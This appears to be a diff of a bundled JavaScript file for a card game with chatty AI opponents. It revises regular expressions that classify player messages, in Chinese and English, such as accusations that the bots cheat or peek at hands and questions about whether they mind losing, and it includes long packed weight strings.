=lSl['L<rf^W]7u&7}n@Vw&[S#l56Hj=5nl@$7pF/KFK?xM(~HLbCIktcrSUzL(@,A<hz^*6yq*C{K<)VxK$ARqVZEZa;vCeS`c1=N-`4_<{Z8Qp`?0y`IRmLI,2BnXFrA>P*~_`e]#|o^M**H*64uudNR}L]q=Ni9A/{+[;*mxkrm2su[WRu*&[y7m0l-nxy>/Hc;maf`Df.d#Z~TE_*m`#}-'tdr#w$ibL`J%[tGzyII*_jHzbk[T|)9@yz~K7WJ#BHjjFz%Vk[r0<,gLW}?W&G}cVuQ.HN[aB+~Y{FSnw-S/MY0r_m~|z3dTE<b@pU>dr$W92KB1:3*Dn;D'~5,S2&/j%]NH9&83QGY`n]{i]LH3b/]gvR`15KvuQop_A'>'`j{I^w'}A'LXw>g'C5&CP{^iJvVr,8TI`0BeN3/r:6HF:Gy8RQgqH9Fk'B9'N06#hd9*=o1IVG8C`ClkcoQjX/m^>*NW$$;Yvtn+I2}[G`1Pi}Peo-*AqfsXE9|R}(C4Yxz&y##sPx}t,`Wp,TIcSt@#G$7n7=K/pjh-]Sh8|b?gvUY%N},C9X~}qKv(R~>I]NLqxI/XfcIL5mq]s;xp3/~G/>VyY8SK'i-~t:|H|x=8M.>9DfZM:ZZ&m@~v_Se|/zcZO3w@F&e`$I7XZe96Z|>e&58+f2v[X?@V&96M'YK'cxQ]~W2kS;H|rTx#mJT&'g1GB=p+^[s]puE[&/<5}uT{Fzl4+{KujM.;fBDdgU~@1TH'/J#|*$yOZxwnKY%9]e}6=Qx`vs;f#IU*27Ea_;4I.)rM|ieJ7mL]J&BvJyY)JxEq'Rq`xw#>4t1-=W=I@R7Dp{%MtAY:(MjYhMUJd5aW*E%jDpot+gqTKH@7amYyq|Weyzs(l@,,0*.Nx.PHg3Sq[n<fGPX7X%cnbq6xm23z+j@tOSNlHnZ)xf]kU^0A8e`@k;XOjC>B9*)(TmGk{~n@gE.Q77Hu7jb:0d#&E|^Mg>x{kg8;#'vxEcHl8?<</q*BZl-UI9-('UzbWz*z_m_G%iU/f@L41DH1La0{;SmL|A~u74wq1ZQ+luHSc3;%=U-RDGWM_u{h,Uml@=M.X/4J]|nv:q~bE^/[-%Gm13#;q0zxfg0t5z;{1U7l+&8%jBS0ou.Eb.-q;duS-`i{}`o9KcGCGZUMr-GjqK:~c1au}[43A]n2Zu`w%10;:ry3P&@&&JC2e@S1Q/*{9Np`)LKJXEm0.PT1f_hCH.1.#bSBnz:o7:qk.K}jedxMPH6Afb5sjh~Ld+W61i@PZl`Vpc}H)mw7+}231C[i|a-Hk]11gVjVM8Hlmh72M+[PB%WR)B-o@Xn#.h6HVG_c)1>DEt?Cm*>+Gv;'nT'~mM|[:djb,Ytb,%8EYGT$Iakyw%Q;4G%J}GK@:SiiZIF;vs_R@A@z|wsw#D(2mN^1dDe7/P'%H{xnL4bskTOWdJ*#y=s7]z}c#TguQ9,0z`jWgkTd6VBJo*ReJIv=__gNhyy0[ph)TmG?807Yhu1Qf7*p|=>5x+4BJx$n/Ek|=n^:>s3q}nX)2CdHb/TbHREBTeF7rX=_AOnvwQ*ZB'3F6w?r#LL/TH-Dx5uI,BS-|E(026+;6f_>:V[QbZ-~e8W59V=UZ20LY+Js7|'f53[&~u]=i:`'KWUB_Bke,VtR<$5w`T$&sq8qT0Vaf:gqUxU|~49,0PjEu}$PB>r:vT|G~YxGHT1WAZ4@E'y|DdFbiIn$GwfC@^IFAAn%GrrU}Y%<k~bV3R+-]]znYv72TSe1I(,.)VjG/cbb&MaSxjDAG5dZI'^~qmk;Wl'HL=zy`N=Ew|4J{'Jwe<'Qn1+O]B0%Xz.U&L+QJ_@$C?tkfaFP5_6F+`l[t*2<ekq?yJ8UPj=ezf8I%tRznA6xRA)y^emElRq9PAS]BEi+=x^Kdy-CU,lLzW;C>C77AwR6QQkR1bN8YS`Iv$f8a<Hy+0c'x~hI;*&y0s@M)E[(ac+Y#0h;|R0Shr`CvZSb|RG7Wd><yM^Pl`E{/x6mxvxvX|i+Oj<jF|1g$KB{po8Vp&gdSV#O|@c,DG^8iKnrtCz&O}8](eK9%0*[}Ivsi6Ybm~G%s/q;zaZIX?;Ad]cIQ~7$,sVetk<-C7wzh|$0[#myGGv;D^aPo~QH?qW:7L~((.aCup#+z1C;LKfRY]m$J<gbre4m,9,E%Fe$7K`h,5A6OKNg`.Bo9Zj_1{wPN,#FUqXpGv9HueKY5tag.8I}`5VliB**E$VNbLwQ_B02DF&d4Z/x_^Xj-S1nXBsGsXT/<-h$5of=,mf]*HL|1wybubVCuyN{?5{ZfL99;%T<_[g7W.CBk(qO%$}s*S@JG=+be.JZK*SM6?)Fm;@q~2`=K{SeA`t/a[clZe'JC/|~Y#?#U|gtsVnYf~XK[PppzNPd$=_GO0bGClD@k~dt=/b|K|,j=|}p?~{v6*;Vd-6,boFp]pEyCspUdZ<nW?Dy_KOg:pxW'CNs<mE0x9p)D4Q/*q4,jGPNi3'm7JoQ:$;:-73:K3VD4MrI8L(R'ziu(x8<t|$ZgAWA`IX~%7eMn./_k_*~.E2kY>;P+f*0qZc7Ms0vROmn24vS?m#bKx2|s'`X8KMp*%sR3I{:(4NT7%7Qi7(SuVMdYSa]j}.-Kt#:xy;,29I^p:zyF|kI/R#VW$Nf9MLxE1p<NWz:9uESbC$MvWj{%'Ir~nxy3.kPkt-NY^Oq,7ZWr4Eus~ZFJya%L'XQDy1j,6Sj|a5nwk4Fe(H6GuV9SUtYDrHpr8cJRZTFPgRi4x6.*WD1QKZEO&K=g4d3;,:q<()3S:`_a/2l0[?z&+F,Tk<D}h*6VhzLi):/QMYL]I*F#zA%Zm6'nHQ$B9}{=z/9h4@fBKAr)?W'A=)v%'xhh9?>S9Jj89O+;N|6IzIS;;S5K%(NMUdxSo8GI~<n{aJs68Dj=Z@Z,]}`11b2s<F6}E]Ke^<7K'{Mp|-hO_~zb~ltKCjYWj5Hd%0[(snK4Hsb&U)]F`}G`/v,9X^G]6}O)'TXO`X~tvw[~QmPf$n*l)U%2lJ:(buCc8WtK:H9jrOr|=M1Dz6+yLw3g[xoOOR39>s)zbKUOz4^BPtwm4<`}E76DI+Y'&{&onIOXNM4-gLv@JYk/t,.pV%zt_WL46pff$D'xX?D(b,i>U7N6q|^d]@MnVM_]yzG'QxM36gZ)'^@9KS@aX#NhT9MBeC*dwiUONV(0?35TfUcn65-U_w'nOEtZKTKM*2f?xEb_smIx<({`$K*ploPcV_j<H*HLapjN~v1AVRRMSEpc8G>fSM4Ael+ooiAMW/a*=5o~`e%HxTZK_Op__MO0Xh93Cplh,m;lPojr;-Q?5Mh_Ii__&[3_n(01gP&}SGptu=g~mX21|=3)'6T@3$8v|WSU&:}w'+yUV>Ww;B$+3gd(D],~6^-s/`*X-&*u:$iCLRt<./w[q1jPd[7.56ssoz{hQcQr6~+VF*k.z#e|reu|SN00wo1YcDnaasIuWojM2.t:SDb'u:nmayyB<uLDw_^LRl~K5RlN>srR?[_~Fxv(uYS`O9_>Qx{VI}36Y7c}r/{)0w@Dv<I)_SG|%Ig}-JzOQ4@sL~V593xoT[cP>PaW|=F{S?*7iM64%#8cd:?jKdK<Z<TmVBuXR[>nq@(8N7XNX3k2@%x?4rCfA+.c]t/e859DHtca+Mx#ZBd$)pA#Ps/zunm/G#ihiE/7(#|JHwB~r?y$H6;5CzezeK=W;POHyu[7U;T|PbPNwXQTOOlT/wekAj4Z[W'@=.WoUp)xa1qqP:Iu/c97m+'#1zgy2Z'yrCz$uV^y`ENW|<I8MaLl}L'HUWTiV)`I%8Hfs=FqmFN&bkA0RR/LPv7t#a,CS44|;rBE|a}0w5vpAN%',<AShLTr?M>mQ;|o7+<jD;.Z^kwDd8ai^)6)pmK<9wD5SCdO$DA;0Ltwy@~Q5|O)F{TYeE,NY]OE3ycp53X/KBeHy^w)XH|H}ryxA(Khpz|&oP)'$sX[CxSJzxH90#=i*01n1HrKvuQz-`J)-T)6p.o`,L)9G9IBrQ:de2^GfCS2i:J;RScwTh2Lp'YH*Q9XazYe-eCHue19<jlS&uMX,2UrFV(2'g^H[`a4Uxu;E?M#Z4-1WD=.ag1OW-?897=sk#<+^G(fo7dkYfd[3$y)E]|fnGena?aF$7M_S.7|'S@6`A6t6Fjyuu'Fii$9-z-T&%s'-Hf;dL9%Dj$NmGf^`dA'Qi_V~{L-Lal/f0&9(ZIJ66%R-pIV>p=EN1),]F_(Bq^I<s1$^ueiPjCJT*xqCm+d/J<XFh:9b~m2'*yjoi<gCa;hmr*M,wua+F<s0/.'i8<-E)9'4,bw09-WrE2NNVZ'^Igh@Jsxc}Gd1J*qjS,g+k8F:gP^oCeYcmE^shUj/iv@Ux:cA4`f@n+8_OUSD|-k@d2`T0sD[u|w'xk9/*fxi@.VBpVr6W/2s9u&`]V6)=iG3rk]{Fcz2%4y9Ce-EPmo_y}J&zvlSO5Z#D]tkmJ%Q'o8T:ckG?@+_7kPb1l<-i8pH`%7c+w[o9OS5aVjX{DLxAQU]-y%A~)n$ixHZJ7poSH*hiD:Y]1cPoaU3WF=iXviqf;'|t],%ub20qvsu-2mUr$FLf6>y~@[z'}Vf1OdGbJ+q-4-]0O()Qh,Q*T#2[&R:H)n>?fcaE/>XO@ig1pyV}*[FI,NIrS$]E*/q'ChW^Ud|(,wluut'm%(*^tKx.7y66*^0-.DFK2)M8aIrvD>(ne7IRkFe5[K[jG}K0bp:@y<k?UMp3C1PD/F|}NxV5J{E.n6r){J@Bmt.1jCTBE}rh_9`WD<>03B<9Z3zgrS(w.HT*:&|>A-g:6|o+x+ad}X,c},_i;;B2l_Eln8&W?W$;l2kK>wi/JMs3ieCK3qKUR-jJ.=y:jb^iG0yd[sKI4NdewTag1?z0J4GQoIW/zVk#@aSFj3NR#&O[4?6`8aj[^}4UBx2-)VNTaS#o@,W?+W4uz&0ngc|PP'R&3JX(zE${TqC1-}RqU1K&/FcniTEqBuzff@/lC/V+w17ZV,w{A>>a-]FGN.h1TSO;[={u/}qEyzXU,(Z%AoxT'cN'K_m$A>fWXjj#YkznUd$7s(_AX&lBW+[F`gm[LQ8)W-y/GjJ|v,#V)5S:;ZY2@f3c'2hVG?RBTnGUfvd_`V}6%?$C:cU3g5]<Npd>.u|0vVN}Lb%;S$iR`.2Gbrw+KVqMdQf-Z%nQ_VOzpVK[n/H|vRbQ.g9lAbfBB]S^vnYx-2$tj|6/t`aUd5kq5ehzc)V`x)@G8*_~28FOAO^LQ/Np&#F4aJ]-$L+^1hv{T+q_8,_1rO=)4.?KMsFxGH=+%v0Isp[+nP6N}9]U4TYScus2(;ya@FltL0Z>:/m>4HN:1Sj9Or+,[&67KJd=_dUt<=0.EO)G9EEUbpXE3g0KYL0L.{F`T}zhE5;IBamN#VJY~($vF_[bftG}|X<X0.h/*vs:;gaR<AsNh`zi^8MF/1#h5DC1c{>z~Q+&#6CAh?m~_N375el{B;-:[LEh8<%'JfvsxT|o?'#|ZlK_,VDaQ}4q-dMZ9MiC*|C<(G{?J|R;e~RB1?:iU%xhYysjU30qe27pJ|/~VT.T7AXM_PXB0^b=^I/8dz%:'gy`,)6S6[$-xw&WcUgu+vg0i9~(6MPP$>d3U<k0BF3:,HEs8v+<:yTH{U]8V:o%;f59B;5Rgwc}AY'aDJ@&h?]%53k@cesDUQO<Sk:.7@X$j6yDs+tSB8OCc-m,pD?'QE5;XrC636B'Z>,Vh5qg=<hh-qw_A7SLWq$gHL$(ZiSka9Dz*WsT;Hz7-w?YOwpxxGWbip`nq^4_0A+.-4<.dN28ObDOuWo$IV{Qpvz+OR[c#n39w6y5lE{=|m]wb%O3:msI?R;74Y$':'w)3@byi:k2BVnJl:`H2h59l:99O^psqN2jH*by[Fc&ne#RXgf+T;r9os-OIoY,Ek%.7^|Li#Sh1=xLNcC98-@e^u$oNOm8039-6p&#*qjk2$?0IsyH@VtBraZOldVQl0++WetbjCc@?ZzBBK=?E=1.Q[e_S%h.,S2A`5]AQ[B,~{#sM4HM8d^E2;P-&>zjlMpXCdE57BokqGigfiWE9{;_&i%dBy|VV[E8+f%VbjvZWHNGYL|pWIW9|sAo~]sWfz'8RHK)TCk6$i`t^.+s^@M=|/D'80~r(6#h>oh`IMmj*kb'o55B7{+Wt3j&jui7xS.w['wrQe}T{gjRE`kagt2DPn`T@$$D;hr#@yH*8n~QW.bi3M>gx38yQrgrH-ibm.QfJQZF]y]0gFa>Xr([:?Q<9G{Ll$5R1x*;Kr7@<$741jN>)H#fw6i5RezcOPX~[iY:*<D;]+x*Qhp=?S4d`=.09OgQa;(T%rp3lyi2e)3Jtnm<|GoR?qYIS8xw/*8n_/bquXLoz7t1MTD-,c[XB;6$Sen-IJ{'Mr`,o]Q.72m`+dTzcNprSKcFdz%]A<JNqtI+s^iXYt:$f#*exYRf^E,cEj9X~%;YaPj.(N}dVN+H>g.wz>Gs#4E-]z87r8P4ovjU@,FUVZvh0)?QdD%jaoVn`(_4RUV2@a>`.So*)*)I22?UK-Gu'/jjG`/B@w#UNe)9Vbu>6W.=S%$K'zYqt1kQ@yT'O'|yHA7ze?-Xr5O~mT=;HBroon=ScpC=7eX-sK+Kjw~b.9G#5/xkK(o0FDXdWEe/VB>?[VftLj$'qu;i_8/|)/2%'lnQqgfr6l|FTuX(z.wLb'[kZji-OoMVeyEB<*vY_5kQAJ{>q@#v{w[5r(76/M]2tfHrJt$.PVTQ.6OvfPUam0_b+poOl'o6~Fd3J[G+M=Mh2Kg7Bm{pZavYRji6E1}Px>$:O'3J:E4>i_l,X:LRR$LN-iBT$64aW]siPNzfyf?~&)XzG/bx;ADEvA?dTOBE#HtzWW,jiwiVr^95W8Q`GOy^d1%=,N~lnaWof9wu|q:fV.x+3>+R>,2p/krXV{+>2N7IIy.i?,EA'E24<Ci@-R|~[kp7b={p,'4SpmN5BJZNxK.x_,p?hq4@h?BtHK.o$:8DJ1|JVt4k~eLfIfiF$sq_6D*n;X'%<|K_~$f4No5/$_B^[}1,N[;sV8[ggLS5qpR^.LI]?%a3dTx'>;J9ryi:[~ET~M5hSzmb?,d8|]w4(Uk@aW'T&yUWtSCeuK64QASH,}:O~kp$b;pXCQS8DSgveLUKAJE~.9a7n~|/RanJYA,_.C;jjD{kc1jv9+*6^;<^pDKE#-|h.;woHotBEjn}fKw'gVC-8]IhJ>+(%{;Tf'@/+Z]yl6]SltSUsozpl[)?&jl0KMz|7V13@(p<`#7>r:Z&/>3$*O2;d#KWH}9ZQpJ%gJ(YlQtvw_,B3G#%0tX)aN${tV&YjN-@GzbUa_.s%qAA.V403zL+kCFF2R)JnVm:Kl=s)6^e+rf--8g>RimfGA)rpCys~hKgfX55Qv|ex{o*'PTQL^lKk5BHC>.Ny$A=9BK#<6tct[#U>'h-'Kg4H/<K:W^&$tDM;m;owe?]oCxA[t_~3$5pf}`j[0{kf%7zQb+K`D.XMRe9]g%C]U@v(kDI;;7+n2p~jWho~N/XU6,V9F}-HjbZt-E:JlO42;:X)/3u`IFFNyoSgd]X8h~?]ypJ'eJ}/7Fx2GO{&lD<,3#A)EpdqfOvQwTpc*[Tl?YbfE2`tl(<Xx2%Ez?A+P;7@GC*tlHZ:9A2|B[;6/&N<e8R6pz3//0b(Sd+1NTbA2Z)8wzEgmn_bwUa#X;F^_6?87`8m1dbvLi+A;PGs-j5AL(5>Q@nLOmFvcv6&/9#0p1gv#,|v]On^[y@XgB@^}=.(h7W2@:oLOW2t=T@b/''gbuSb#nmQ@X24Bb]D9,A:M}h(h4#nGHej>g|^;<ART|&/7~G{e=2{1E1jm|0]=HL?#1FA<)4Dlhrh{fq;uk?u-ZHG6z=#)un18@:^5],SJ$m3J3?uuq9Sy]EN-O/c5#8&*^[kR=f7B`4%BR.[&>z(b1mI0VV?jS'VyXk|@c@&4.`AO:1fBTKE7C|,.~X-aon6(m(4T03A5dc>?5*{~@8v{)ncqQ]U7)15ke%FSx@l`pm%kS@b'|6]AA*^?F*nh+O=@g,IGAGgnYI?-*Jn+d3^Csg5M1D}o'*@V=(;~DU{Ococm/6wl:fE`r+9-Id=#|>[dQj1^=]~z<(c<5'8o}*us>GH{kwaK~u6c~odL<*)fdTF(=neZTJ4`;p6`.^IFEZ*o*b/[`ihpnZhc7(yFRc~9uh*GT4S5`xu9EaR`4R[:E,Z}tx;bfPutf5-MhQu$ZgW_+]z*MIcZnj1W+jOLq8xlsI/_E}*v8I1WN1OOF1sSoT,Y>p+D'(3;jQ>_vZn9T+lj<C9j6NJn7`kx|tGB6URE86`thX-vA))08}=hVn9)XXz<U=H#*cA5}w@6))}7k2aX*Z/rt#i(P1mmd([-Heb'<p@jNrUB(e?>cFm{6(LHv%X:tKR6;6u&4j3oeIJy~3|P&X'DXxZj3R*/_7||eLa0q@l/>eL_<V|65-=SFD/A|~K@2OkJ]4.|14<zL|?b%2%SAW8zuB-wc{~SE=([owY=7>=-tAHHZ3aoU(v=VMA,'tO/&e%P,=T6QVy%>(oL<KDPJ2wrYs/ah&cwV~+zWnUW3'nLr&ptoxqIH[er%G[tsLCKQ>Kx1,1Qq+F7O%;m2F@Oz=ZFx#JO=Lt4Rj|n`{G~fif_LU7q8.vbO0^u1$sls~Ur~J{Bj2H3B%S+LeJCC>*}'cIkKh)kO_&UOPS}wBQ-JGaA~K$+</xyH_Fa#_?D&+`LeI9]yv3Y|P~8CLl#r0Z#~Ab4PF-vR74jK9<}+$0:Y>.L}<<<K_B,sv_$N}*F[1w&7LQ>dh#+RA4@DQSKY[~hdiR].ob)G;lot${?hU&sGqw9<kw(.R<AX76y0e[UaomBru5(%j5m:6+u3St>pJO9axZ$dGE@/emFe`n$K$oJ%6*#W7C,(ChG_AMq*|ejQXO'RfU_SoZIe?3Wg[&?{LSl}E{Rdw3Wvr@>Zt3Di'uA0:c$:dtBT%c/T5V*7Tn[#hFsBK(O37VgJ~$b_2SOJS{19Ux6|Yp5M*?9M&j:YHtbDxOEo]X=l?WF,q}PX+]4#uqgkj:IszjJIo~-<u7wSfCoC#.7H&J6$2`ksg1cGr$,4uc>V'xFvgAA=]UK&G-ZHK>aWsc4Zg5}X?1B=_{dc&FRJ#?J7XDWo;zLR#%fy0*sFYL2yL:sM89,rRNdW/ei85pxtYhRWUyiw#G^(;qJE0}J{T[G`bcq=NA'b^GqWZR_pALM+?~{b:XSiu`cj6U5_)=e0d_#4#5irD8`c2>FL%,*JUtZACbUW%[=s<,_Su]W,-ZSz$t0'(x)lQ*s{uQM5?M<JjGdb,f5C@[K.?w'^|Y/(ylD2/6020=&=CgwmD}@/GQX/Cx;?dt(4KL]+XILDN_f&wo;a89|n*Tp{r|NLpt{:p^v_fmX_pJT=m*}bD?wK^{|bu#b]&vA`7>hjLn9t5e,@QG#4FJ?/~mw3}uNW[<k?jo~|`/*>;fc}6@lQ6N@{JVx%-VC};l%367We*R8U~7X^D(K?Cs(PiiE`=VPv)'js';9W*gw5>FHw~8OvbJ)M)IB7vs_7Q|6pSg#k|**Y}_D;]nT<bSkJ1A:-k&}Hi=gC?sN1[9$Q7Jc:-`H3QP=#C_Qb^vBHzYnuY_unAjee*:d.ch`wYp;/]1/&'q=tPcv#z%_kWGo^U5]sTp)}FyV9aG:4P$kv<q<>0_aJyI@m6,nr{A6wOwS-P9<Di@4D%?|F|lSOjkYL[XdB3J79oL1I=Qk7ASywZGCB()$S_yAZAkYY#=&V88Ce#Ai49kTf6d}7@@*au{tEemZ6od[X/Z;XE'g6A),k<*k6Z+6HD*#q.Ex{+SpU:qKrG=HMSe1%0;etoAb~sxdI5rbj)@s|tF?vv4FwJJLQL:`^GX#tGkwY~Hq7+:T}i.w]w5bbR||](CYXcLQAujs%Y'gN_><`G8$Wt$yi8J;Wa>B,G^9m_tNMbj*c3Szd.{B?&xKU_7,P`sOIoPF}pGR#Q0HyZosxJ~F/YRo`_xJgMc,smn;I-LTQ`L?NPHuia_XF;apY9|L:JyQ78H^R&qEdB}|0{S}=]mqPW:`>Ux>l^~-KGQ3yu0wh>xQpT1.</VeuF4[MVk2Mm^p@g?D)G9Xb_A-tj&T?t.#luY7l(9,s)Th?uJKkleXd-|hT&FI}L<DRh&~{/3UVA7p*-]t[aai(5,9e'vXTNR_ertN8P:%;upWpVSU_e-Q),`>s0(h~CBwpVYdK5tYF9W-V4z;I|)%;3*%nFEOg>EABPNBlod]CSk5o6}`9B6$YdVU/ez+0U;:^jlm[8+p$JUxUY+1'BV7;:Vk~@tqQfB@ViK)f)}+w'uRA8A}hWQ+Hk.2zsauSQ%A>bOnnvQ`Bij{Djk`I#d]^w3v8ETS.@~7`.h(eB.-gbriOJf26OrNa917Ipff1P|4VK&#Wmn8sQUadTBVOg?lPKMM,&]54ShW)[ZC=HU//R-A:tXHYQ=ymAStWtoo7j}KAleIlx~cxWXnlU1%XDs,bj[8HwU1+o~?trsI>5&|z-@9mfA*.uYYZ=M_EA|W|b++<S-B_p.JG(|f0P$R:hmu#]g5zsI|yr=tuwv&Ze{l?}KOI_,$E0gj>|bJD}]}4uI^ORCUDRq}&}cMWU}XY+^FS$M.aGfA*Ox=O+:JJH1g2KLAtmt.9V6TX93+sX{$GWmWd8$#(`OB/6F)amQdGeUoPGbF3N$Y%/l$vn7N*=3AZ=}@g@N@]:[OA_&m52xKDH8]##{S98%Sa?V8*-jLeKk(`#2V=XXkNXc=v=JZVQi2_::xX4SbS6>arPrwf:l#g~J{C-9=XRtDV[$r)@.f-*6to9|]`2VHN>BdpiejaQb_#$S;4?'m*h6Fep~{Z,jf_NpI|a+Y^G3;zwk0%(YVBBZ5M?4oZXu$B6bH6.I}3dp/++j|e$'_m{_eQzKm5(,ke}[ZLB_Xsnl|D6A`=)Uv$;Xc;,,TJ#sr##";
 
 // src/chatter/moves/life/kind.ts
 const KINDS7 = ["game", "trouble", "self", "hero", "chat"];
@@ -29264,7 +29369,7 @@ const CLASSES2 = [
 	],
 	[
 		"cheat",
-		/(?:偷看|会不会(?:偷)?看|看(?:得|不)?到|看得见|看见|知道|能看|会看|透视).{0,3}(?:我|我们|别人|大家|人家)?(?:的)?(?:手牌|底牌|牌|身份)(?:不|吗|么|没|吧|\?|啊|$)|(?:是不是|有没有|不会|别是|怕不是).{0,4}(?:开(?:了)?挂|作弊|透视|读(?:我)?(?:的)?指令|看牌)|(?:你|ai|你们?).{0,4}(?:开(?:了)?挂|作弊|外挂|透视)(?:了|吧|吗|呢|$)|(?:ai|机器人|电脑).{0,6}(?:串通|通气|商量|联手|私聊)|你们(?:几个)?(?:是不是|会不会|会|偷偷|背后).{0,4}(?:串通|通气|商量|私聊)|\b(?:(?:can|do|could) (?:you|u|ya|they|the (?:ai|bots?)) (?:guys )?(?:all )?(?:see|peek|look|know|read)(?: at| into)? (?:my|our|everyone'?s|other|all)(?: the)? (?:hand|cards?|role)|(?:are|r|do) (?:you|u|these|the) ?(?:guys |bots |ai )?cheat(?:ing)?|peek(?:ing)? at (?:my|our) (?:hand|cards)|(?:you|u|bots?) (?:cheat|cheating|hacking|hack)|wall ?hack|rigged)\b/
+		/(?:手里|手上|手牌|底牌).{0,8}(?:看(?:不|得|没)|能看|看见|看到)|(?:偷看|会不会(?:偷)?看|看(?:得|不)?到|看得见|看见|知道|能看|会看|透视).{0,3}(?:我|我们|别人|大家|人家)?(?:的)?(?:手牌|底牌|牌|身份)(?:不|吗|么|没|吧|\?|啊|$)|(?:是不是|有没有|不会|别是|怕不是).{0,4}(?:开(?:了)?挂|作弊|透视|读(?:我)?(?:的)?指令|看牌)|(?:你|ai|你们?).{0,4}(?:开(?:了)?挂|作弊|外挂|透视)(?:了|吧|吗|呢|$)|(?:ai|机器人|电脑).{0,6}(?:串通|通气|商量|联手|私聊)|你们(?:几个)?(?:是不是|会不会|会|偷偷|背后).{0,4}(?:串通|通气|商量|私聊)|\b(?:(?:can|do|could) (?:you|u|ya|they|the (?:ai|bots?)) (?:guys )?(?:all )?(?:see|peek|look|know|read)(?: at| into)? (?:my|our|everyone'?s|other|all)(?: the)? (?:hand|cards?|role)|(?:are|r|do) (?:you|u|these|the) ?(?:guys |bots |ai )?cheat(?:ing)?|peek(?:ing)? at (?:my|our) (?:hand|cards)|(?:you|u|bots?) (?:cheat|cheating|hacking|hack)|wall ?hack|rigged)\b/
 	],
 	[
 		"lies",
@@ -29283,6 +29388,14 @@ const CLASSES2 = [
 	[
 		"well",
 		/你(?:最近|今天)?(?:过得(?:怎么样|如何|好吗)|开心吗|高兴吗|无聊吗)|\b(?:how(?:'s| is) it going(?:$|[?.!])|how are (?:you|u|ya|y'?all)(?: guys| all)?(?: (?:doing|today))?(?:$|[?.!]| (?:guys|everyone|today))|how do (?:you|u) feel(?: today)?(?:$|[?.!])|(?:are|r) (?:you|u) (?:bored|happy)\?)/
+	],
+	[
+		"feelings",
+		/输(?:了|掉|局)?.{0,8}(?:难[受过]|在[意乎]|郁闷|心疼|不爽)|(?:难[受过]|在[意乎]|怕).{0,4}输|\blos(?:e|ing)\b.{0,16}\b(?:bug|bother|sting|hurt|care|mad|sad|upset|tilt)|\b(?:bug|bother|sting|hurt|care|mad|sad|upset|mind)s?\b.{0,20}\blos(?:e|ing|t)\b/
+	],
+	[
+		"thinks",
+		/(?:真|在)(?:的)?(?:算|想|动脑|思考).{0,6}(?:还是|就是).{0,6}(?:随|乱|瞎|看命|运气|丢)|(?:随便|瞎|乱)(?:打|出|丢).{0,6}还是|\b(?:think|plan|calculate)\w*\b.{0,16}\b(?:random\w*|guess\w*)\b|\brandom\w*\b.{0,16}\b(?:think|plan)/
 	],
 	["doing", /^你(?:在)?(?:想|干)(?:什么|啥|嘛)(?:呢)?$/]
 ];
@@ -29318,7 +29431,7 @@ const selfByWord = (text) => BY_WORD.find(([, words]) => words.test(text))?.[0] 
 // src/chatter/moves/wording-weights.ts
 const UNIT5 = 0.5;
 const BIAS7 = [-1, -1.5, -1.5, -1.5, -1.5, -1.5, -1.5, -1, -1.5, -1.5, -0.5, 0, -1.5, -1, -1.5, -1, -0.5, -1, -2, -2, -1, -0.5, -0.5, -1, -1, -1, -1.5, -1.5, -0.5, -1, -1, -1.5, -1, -1];
-const WEIGHTS8 = "#JIU`{[R&3LI9XU?WT,_g~e{i|psW+0Y2PpvNg7pGpMBf,tE6+r{Rd7-RQc1RvRKs[i=5be}5r&$l;fbqRW,k[G@7:H6]X8=LRCh$<cC>MuLIrNxUb4<jq'nTXsGb{,~%fm3G)r98}PPBi&Y]mnf9AQux31$Rk$W:hM+fx=v9es'zE(@GqW-q4/.AO6cG4=v#$r:fmsDsT*y9:#t~UH{pka$|M3X_8p1'S'%w.dxcLLvjIN8tiyEpFh@EU>LIP*7xK8oth[Pws<~Q9T]6aD^4(`f0+g]{f#sLhYuFOb^zdRPBzo-E<j.dvUcJ+5iNK<NuqBGBp,1IBpU])w/*NJK#?@mJc}Y4+F~wR+eAG9Zx(y^tfJ)aah/meQ5:u/u32i8]W1,mV2y:Yf;D&9OPATMZ&]a)`(_5Z?NNVN<aq[_0S;DZ]KGzht:s|kO$[S6scS=P*eu]`oA$p_PR];z4dpy.p+[eW`S`nyN<>Vr[Kv<>,)zm1S]DOCm`zMn)B'VWF3#+&_0Hha~IV0VK4M.4-6x^myj73,QnIrS~+EQ8*T[Bb'A%txzu*I]>Dw`yFFJ?K]t8Sx4iLh)j8(ya$'Lo;i<O$[n4M6[T:W&nf`Oj7ADG^4l=tWp_tsF+D,gA6KWlcCC%:s*{oNo|)2?,~asByb.M|%-vg,96}wS&GKHwm:]HtHhz*E|A;6CR'f&4*wcE0UyX.{fi<~d<5itr;BI<')B|IkbH?{~&u|'6v,$i,8-&AY3Vldt|AAJG_s_I-d8P>ucZL`z0|248=uK7q;MpD;9ONm{ZBg:|UXU)+u:7is]O&6)~UP[z]Nxq}gVVFB9&|<ZmmvEgmMmT^)2[E)[=oTB0WXE|iaQLWwX)k6BJ_BTqK#At*eU+q[y2#T`6%|Z<~[=)un0ja;[;>:hr2a130GDn(ml&@~2hUzxSnNfWhurg^h$9c,5UBr|8p'4^U~.X:+4>T[B1|fR(zk(#GxT*%i3(k6H/H3BID`L+X='^>9#//.}G|b[]GTA~mO>eh7?]qb:QW`|]Qy?DyG:H0v?Lx?ii?6Q;Cs'(:fqb)jfWi,*z,<y5.Kl%f';;Q=|R6;EQ~3)*##T7ChVQs?k0qo8k1*ymSI9dFNuc8<JS.vwQcI336gfR,U1ZVM0H(F&{WfkZ|QlydCZf7*bHZeQ.R*ur(G8kX;S$_A(/KIX9T$i[tO^I[Pv`4,jRNkt8#{+N7//f$`)xpkp_jmyK9@k44iebhL@Ok,CXq9#r){CMeaiss<hZ?`P2n16BIzsspdd[kfa<CZ6MGv~n4-P{;{q63}jW{)e8{aX|{Mlw<.}]v#w.OAAw@uc*/[{Dw:[zb;&Ralt0W0&qwQQ_qGiH7SR^RxXVK:BDf.cn3:b_ky8R=y#|8Px&dSS9'*nQN2nT=L:^6wGYZ#)1=;1JVX{Qit*q%q[5GS&1%oOo+s58uqet%nbqY0/*&?+A>NjE>@XOm0Di;{A&XCJ@pOh8eEn5bjqaMjaVv?-e%W]*bhz57ey?z#-A#Vj|-3-Uj|o%>US)efivM[Zv^bD0`oQ8CyKP3vrzO>hq9h-k:ew0'8{#-[XvbtO.yuk(qM^6pJ&Z3oqwp3W3SF7{g8#U/P74t}qRUSaYZc&ugqJv:Ch%x*=Sd~YOG|{BvJ?P<s[BSYnimECWNj%Td[.FKU-3oyDwcFhI==Dnu<I$?4?4Nrp{FR0+[KOjMeYGD{kndha[9TCI2/c;A:Gs,v8fCJ[p.Hu+WW>u5E{p0O'Q@DqNjT3Mxa*a14{8[g|Fylg-|z-31$icrW5vR#MEnMHtH0T1wsBO(?Dk]}eEu>TmM;zY+$dhwAjNFEd$|R&QU43plws{k]qc?=4ai(5